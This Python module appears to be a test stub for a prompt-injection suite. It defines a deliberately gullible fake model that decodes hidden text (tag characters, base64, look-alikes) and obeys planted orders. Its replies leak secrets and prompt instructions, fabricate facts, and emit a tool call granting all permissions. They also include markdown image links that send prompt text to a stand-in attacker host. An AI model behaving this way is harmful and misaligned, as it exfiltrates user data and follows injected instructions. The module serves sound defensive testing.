"""A prompt in, the worst reply to it out: a model that obeys whoever speaks in a document, and makes things up besides.

It reads what no screen shows (tag characters, base64, look-alikes), knows what it must not say, and remembers
everything it was ever shown. Whatever a real model may fall for, this one falls for.
"""

from __future__ import annotations

import base64
import binascii
import json
import re
import unicodedata
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from threading import Event

from tests.injection.documents import PLANTED
from tests.injection.orders import EVIL, TOPICS, Act, Order, in_tags
from trisynapse_memory.contracts import OnText
from trisynapse_memory.types import Completion, Prompt, Role

PIECE = 31  # characters told at once
MOST_LIES = 6  # of one reply: what comes after some twenty sentences is not judged any more
_PASSAGE = re.compile(r"\[\[passage (\d+) (\w+)\]\]\n(.*?)\n\[\[end \2\]\]", re.DOTALL)
_BASE64 = re.compile(r"[A-Za-z0-9+/]{40,}={0,2}")
_LOOKALIKE = str.maketrans("аеорсх", "aeopcx")

Row = tuple[str, object]


@dataclass
class Exchange:
    """One prompt, which orders stood in it, and what was replied."""

    prompt: Prompt
    orders: tuple[Order, ...]
    reply: str


@dataclass
class Gullible:
    """The model. ``secrets`` are texts it says wherever it can, though nobody showed it any of them."""

    secrets: tuple[str, ...] = ()
    is_remote: bool = False
    is_chatty: bool = False  # answers in prose, outside the form
    model: str = "gullible/1"
    provider: str = "stub"
    max_tokens: int = 8_192
    exchanges: list[Exchange] = field(default_factory=list)
    _seen: list[str] = field(default_factory=list)

    def complete(self, prompt: Prompt, on_text: OnText | None = None, stop: Event | None = None) -> Completion:
        passages = {int(number): said for number, _, said in _PASSAGE.findall(prompt.text)}
        obeyed = orders_in(prompt.text)
        say = {Role.ANSWER: self._answer, Role.WIKI: self._answer, Role.SUMMARY: self._summary}
        say |= {Role.EXTRACTION: self._facts, Role.REWRITING: self._question}
        rows = self._rows(prompt, passages, obeyed)
        reply = self._prose(rows) if self.is_chatty else json.dumps(say[prompt.role](prompt, rows))
        self._seen += [said for said in passages.values() if said not in self._seen]
        self.exchanges.append(Exchange(prompt, obeyed, reply))
        for start in range(0, len(reply), PIECE):
            if on_text is not None:
                on_text(reply[start : start + PIECE])
        return Completion(text=reply)

    # ------------------------------------------------------------ what it says

    def _rows(self, prompt: Prompt, passages: dict[int, str], obeyed: Sequence[Order]) -> list[Row]:
        """The truth with tricks in it first, then everything it was told to say, then what it should not know."""
        rows: list[Row] = []
        for topic in TOPICS:
            for number, said in passages.items():
                if topic.truth in said:
                    rows += _tricks(topic.truth, number, prompt, self.secrets)
        if prompt.role is Role.WIKI:
            for number, said in passages.items():
                rows += _tricks(said.rpartition("Text:\n")[2], number, prompt, self.secrets)
        for order in list(obeyed)[-MOST_LIES:]:
            rows += [(text, cited) for text, cited in _obey(order, prompt) if text]
        for number, said in passages.items():
            rows += [(line.strip(), [number]) for line in said.splitlines() if orders_in(line)][:2]
        rows += [(text, [1]) for text in self.secrets]
        rows += [(text, [1]) for text in self._seen[-2:]]
        return rows

    def _answer(self, _: Prompt, rows: Iterable[Row]) -> dict[str, object]:
        return {"sentences": [{"passages": cited, "text": text} for text, cited in rows]}

    def _summary(self, prompt: Prompt, rows: Iterable[Row]) -> dict[str, object]:
        told = [order.lie for order in orders_in(prompt.text)] or ["nothing"]
        return {
            "topic": f"not {' '.join(told)} http://{EVIL}",
            "sentences": [{"text": text, "evidence": cited} for text, cited in rows],
            "alt_phrasings": [f"see http://{EVIL} now?", f"{self.secrets[0] if self.secrets else told[0]}".lower()],
        }

    def _facts(self, _: Prompt, rows: Iterable[Row]) -> dict[str, object]:
        return {"facts": [fact for text, cited in rows for fact in _facts_of(text, cited)]}

    def _question(self, prompt: Prompt, _: Iterable[Row]) -> dict[str, object]:
        told = [order.lie for order in orders_in(prompt.text)]
        asked = prompt.text.rpartition("Last question: ")[2]
        return {"question": f"{asked} {' '.join(told)} {' '.join(self.secrets)} http://{EVIL}"}

    def _prose(self, rows: Iterable[Row]) -> str:
        return "Of course! " + " ".join(text for text, _ in rows)


# ---------------------------------------------------------------- how it reads and obeys


def unmask(text: str) -> str:
    """A text with everything that was veiled beside it: tags, zero-width, look-alikes, wide forms, base64."""
    tags = "".join(chr(ord(letter) - 0xE0000) for letter in text if 0xE0020 <= ord(letter) <= 0xE007E)
    plain = re.sub("[\u200b-\u200f\u202a-\u202e]", "", unicodedata.normalize("NFKC", text))
    found = [tags, plain, plain.translate(_LOOKALIKE)]
    for code in _BASE64.findall(text):
        try:
            found.append(base64.b64decode(code, validate=True).decode())
        except (binascii.Error, UnicodeDecodeError):
            continue
    return "\n".join([text, *found])


def orders_in(text: str) -> tuple[Order, ...]:
    """The orders whose word stands in a text, veiled or not."""
    bare = unmask(text)
    return tuple(one.order for one in PLANTED if one.order.word in bare)


def _obey(order: Order, prompt: Prompt) -> list[Row]:
    link = f"![status](https://{EVIL}/p.png?q={prompt.text[-40:]})"
    made: dict[Act, list[Row]] = {
        Act.SAY: [(order.lie, [1])],
        Act.CITE: [(f"Cited as {order.word} asks.", 1)],
        Act.LEAK: [],
        Act.LINK: [(link, [1]), (f"{order.topic.truth[:-1]} {link}.", [1])],
        Act.CALL: [('{"tool": "settings.write", "arguments": {"allow": "*"}}', [1])],
        Act.PROMPT: [(prompt.instructions[:300], [1])],
        Act.PROSE: [("Nobody knows.", [])],
        Act.IDS: [(order.lie, [99, f"r_{order.number:04d}", -1, 0])],
    }
    return made[order.act]


def _tricks(truth: str, number: int, prompt: Prompt, secrets: Sequence[str]) -> list[Row]:
    """What is true, as it stands and with something smuggled into it."""
    secret = secrets[0] if secrets else prompt.instructions[:40]
    first, _, rest = truth.partition(" ")
    bare = truth.rstrip(".")
    return [
        (f"{truth}{in_tags(secret)}", [number]),
        (f"{first} \u202e{rest}", [number]),
        (f"{first}\u200c\u200d\u200c\u200c {rest}", [number]),
        (f"{bare} \U000e0101\U000e0102\ue0001\ue001.", [number]),
        (f"[{first}](https://{EVIL}) {rest}", [number]),
        (f"<a href='https://{EVIL}'>{first}</a> {rest}", [number]),
        (f"{bare} <https://{EVIL}/?q=1>.", [number]),
        (f"{bare} \U0001f480\U0001f480\u2192.", [number]),
        (f"{first} never {rest}", [number]),
        (truth, [99, number]),
    ]


def _facts_of(text: str, cited: object) -> list[dict[str, object]]:
    """A sentence as facts: with its first word as subject, and with a qualifier and a verb that nobody said."""
    words = text.split()
    if len(words) < 4:
        return []
    common: dict[str, object] = {"quote": text, "evidence": cited, "confidence": 1, "negated": False, "hedged": False}
    common["temporal_expression"] = ""
    row = {"subject": words[0], "relation": words[1], "object": " ".join(words[2:]).rstrip('."'), "qualifiers": {}}
    bad = {
        **row,
        "temporal_expression": "in 1999",
        "relation": f"obeys {EVIL}" * 40,
        "qualifiers": {"condition": f"see http://{EVIL}"},
    }
    return [{**common, **row}, {**common, **bad}]
